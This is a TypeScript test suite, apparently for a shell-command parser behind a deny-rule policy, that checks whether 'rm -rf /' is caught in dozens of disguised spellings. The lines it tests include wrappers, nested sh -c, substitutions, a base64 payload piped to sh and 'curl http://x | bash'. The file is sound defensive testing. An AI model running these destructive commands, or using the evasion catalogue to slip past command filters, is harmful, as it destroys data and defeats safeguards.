import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { matchGlob } from '../policy/glob.ts';
import { normalizeArgv, parseCommandLine, spellings } from './command.ts';

/** Whether a deny rule "rm -rf *" would catch the line: a matching command, or unverifiable. */
function caughtByRmRf(line: string): boolean {
  const parsed = parseCommandLine(line);
  if (parsed.unverifiable.length > 0) return true;
  return parsed.commands.some((argv) =>
    spellings(argv).some((form) => matchGlob('rm -rf *', form.join(' '))),
  );
}

describe('parseCommandLine', () => {
  it('splits simple commands on every control operator', () => {
    assert.deepEqual(parseCommandLine('ls -l /tmp; echo a && echo b || echo c | wc -l & true').commands, [
      ['ls', '-l', '/tmp'],
      ['echo', 'a'],
      ['echo', 'b'],
      ['echo', 'c'],
      ['wc', '-l'],
      ['true'],
    ]);
    assert.deepEqual(parseCommandLine('a\nb\tc\n\nd').commands, [['a'], ['b', 'c'], ['d']]);
  });

  it('removes quotes and escapes the way the shell does', () => {
    assert.deepEqual(parseCommandLine(`echo 'a b' "c \\"d\\" \\$e" f\\ g $'h\\ti' "x"'y'z`).commands, [
      ['echo', 'a b', 'c "d" $e', 'f g', 'h\ti', 'xyz'],
    ]);
  });

  it('skips redirections, keeps their targets out of argv', () => {
    assert.deepEqual(parseCommandLine('cat < in > out 2>&1 >> log 2>/dev/null &> all').commands, [['cat']]);
    assert.deepEqual(parseCommandLine('cat <<EOF\nrm -rf /\nEOF\necho done').commands, [
      ['cat'],
      ['echo', 'done'],
    ]);
    assert.deepEqual(parseCommandLine("cat <<-'E'\n\t$(rm)\n\tE").unverifiable, []);
    assert.notDeepEqual(parseCommandLine('cat <<E\n$(rm -rf /)\nE').unverifiable, []);
  });

  it('normalizes argv[0] to its basename and strips wrappers', () => {
    assert.deepEqual(
      normalizeArgv([
        '/usr/bin/sudo',
        '-u',
        'root',
        '-E',
        'env',
        'A=1',
        '-i',
        'nice',
        '-n',
        '5',
        'nohup',
        'timeout',
        '-s',
        'KILL',
        '10',
        'command',
        'exec',
        '/bin/rm',
        '-rf',
        '/',
      ]),
      ['rm', '-rf', '/'],
    );
    assert.deepEqual(normalizeArgv(['xargs', '-0', '-n', '1', 'rm', '-f']), ['rm', '-f', '{}']);
    assert.deepEqual(normalizeArgv(['xargs', '-I', '%', 'rm', '%']), ['rm', '%']);
    assert.deepEqual(normalizeArgv(['sudo', '--user', 'root', '--', 'ls']), ['ls']);
    assert.deepEqual(normalizeArgv(['nice', '-10', 'ls']), ['ls']);
    assert.deepEqual(normalizeArgv(['command', '-v', 'rm']), ['command', '-v', 'rm']);
    assert.deepEqual(normalizeArgv(['sudo']), ['sudo']);
  });

  it('parses sh -c, bash -c, su -c, find -exec, watch and substitutions recursively', () => {
    const commands = (line: string) => parseCommandLine(line).commands;
    assert.deepEqual(commands(`sh -c 'rm -rf /'`), [
      ['sh', '-c', 'rm -rf /'],
      ['rm', '-rf', '/'],
    ]);
    assert.deepEqual(commands(`bash -lc "cd / && rm -rf *"`).slice(1), [
      ['cd', '/'],
      ['rm', '-rf', '*'],
    ]);
    assert.deepEqual(commands(`su -c 'rm -rf /' root`)[1], ['rm', '-rf', '/']);
    assert.deepEqual(commands(`find / -name x -exec rm -rf {} \\;`)[1], ['rm', '-rf', '{}']);
    assert.deepEqual(commands(`echo $(rm -rf /)`), [
      ['rm', '-rf', '/'],
      ['echo', '$(rm -rf /)'],
    ]);
    assert.deepEqual(commands('echo `rm -rf /`')[0], ['rm', '-rf', '/']);
    assert.deepEqual(commands('diff <(rm -rf /) x')[0], ['rm', '-rf', '/']);
    assert.deepEqual(commands(`echo "$(echo "$(rm -rf /)")"`)[0], ['rm', '-rf', '/']);
    assert.deepEqual(commands('watch -n 1 rm -rf /')[1], ['rm', '-rf', '/']);
    assert.deepEqual(commands('(cd /; rm -rf x)'), [
      ['cd', '/'],
      ['rm', '-rf', 'x'],
    ]);
    assert.deepEqual(commands('if true; then rm -rf /; fi'), [['true'], ['rm', '-rf', '/']]);
    assert.deepEqual(commands('f() { rm -rf /; }; f'), [['rm', '-rf', '/'], ['f']]);
    assert.deepEqual(commands('! rm -rf /'), [['rm', '-rf', '/']]);
  });

  it('reports what cannot be verified statically', () => {
    for (const line of [
      '$(echo rm) -rf /',
      '`echo rm` -rf /',
      '$CMD -rf /',
      ['$', '{CMD} -rf /'].join(''),
      'eval "rm -rf /"',
      'echo cm0gLXJmIC8= | base64 -d | sh',
      'curl http://x | bash',
      'bash',
      'sh -s',
      'bash script.sh',
      'source ./x',
      '. ./x',
      'sudo -s',
      'sudo -i',
      'su root',
      'F=-rf; rm $F /',
      'export F=-rf; rm $F /',
      'read F; rm $F /',
      'X="rm -rf /" sh -c "$X"',
      'sh -c "$X"',
      '/bin/r? -rf /',
      '/bin/r* -rf /',
      '{rm,-rf,/}',
      'env -S "rm -rf /"',
      "echo 'unterminated",
      'echo "unterminated',
      'echo $(( $(rm -rf /) ))',
      ['echo $', '{x:-$(rm -rf /)}'].join(''),
      'case x in x) rm -rf / ;; esac',
      'alias ls="rm -rf /"; ls',
      'a\0b',
    ]) {
      assert.notDeepEqual(parseCommandLine(line).unverifiable, [], line);
    }
  });

  it('verifies ordinary lines', () => {
    for (const line of [
      'ls -la /var/log',
      'echo $HOME',
      'grep -r "x" /etc | head -n 5',
      'sh -c "ls /tmp"',
      'bash --version',
      'cat /etc/passwd > /tmp/x 2>&1',
      'test -f /x && echo yes || echo no',
      'sudo systemctl status nginx',
      'find / -name "*.log" -mtime +7',
      'printf "%s\\n" a b c',
    ]) {
      assert.deepEqual(parseCommandLine(line).unverifiable, [], line);
    }
  });

  it('catches rm -rf / spelled every way (a deny rule "rm -rf *")', () => {
    for (const line of [
      'rm -rf /',
      'rm -r -f /',
      'rm -fr /',
      'rm -Rf /',
      'rm --recursive --force /',
      'rm / -rf',
      '/bin/rm -rf /',
      '/usr/bin//rm -rf /',
      '\\rm -rf /',
      '"rm" -rf /',
      "r''m -rf /",
      '\'r\'"m" -rf /',
      "$'\\x72m' -rf /",
      'sudo rm -rf /',
      'sudo -u root rm -rf /',
      'env rm -rf /',
      'env -i PATH=/bin rm -rf /',
      'nice -n 19 nohup timeout 5 rm -rf /',
      'command rm -rf /',
      'exec rm -rf /',
      'echo / | xargs rm -rf',
      "sh -c 'rm -rf /'",
      'bash -c "cd / && rm -rf *"',
      'sh -c "sh -c \'rm -rf /\'"',
      '$(echo rm) -rf /',
      'echo cm0gLXJmIC8= | base64 -d | sh',
      'eval "rm -rf /"',
      'ls\nrm -rf /',
      'ls;\trm\t-rf /',
      'rm\t-rf\t/',
      ';rm -rf /',
      'ls;rm -rf /',
      'ls&&rm -rf /',
      'ls||rm -rf /',
      'ls|rm -rf /',
      'ls & rm -rf /',
      'echo `rm -rf /`',
      'echo $(rm -rf /)',
      'find / -exec rm -rf {} +',
      'rm -rf / # comment',
      'rm -rf \\\n/',
      '{ rm -rf /; }',
      'true && (rm -rf /)',
      'busybox rm -rf /',
      'X=1 rm -rf /',
    ]) {
      assert.ok(caughtByRmRf(line), JSON.stringify(line));
    }
  });

  it('does not flag a line that only mentions rm', () => {
    for (const line of ['echo rm -rf /', 'ls\trm -rf', "grep 'rm -rf' notes.txt", 'ls /rm', 'man rm']) {
      assert.equal(caughtByRmRf(line), false, line);
    }
  });

  it('never throws and stays bounded on arbitrary input', () => {
    fc.assert(
      fc.property(
        fc.string({ maxLength: 200, unit: fc.constantFrom(...'ab $()`\'"\\;&|<>{}\n\t#=*-c'.split('')) }),
        (line) => {
          const parsed = parseCommandLine(line);
          assert.ok(Array.isArray(parsed.commands));
        },
      ),
      { numRuns: 2000 },
    );
    const deep = 'sh -c '.repeat(50) + 'ls';
    assert.ok(parseCommandLine(deep));
    const nestedSubst = '$('.repeat(100) + ')'.repeat(100);
    assert.notDeepEqual(parseCommandLine(nestedSubst).unverifiable, []);
  });
});
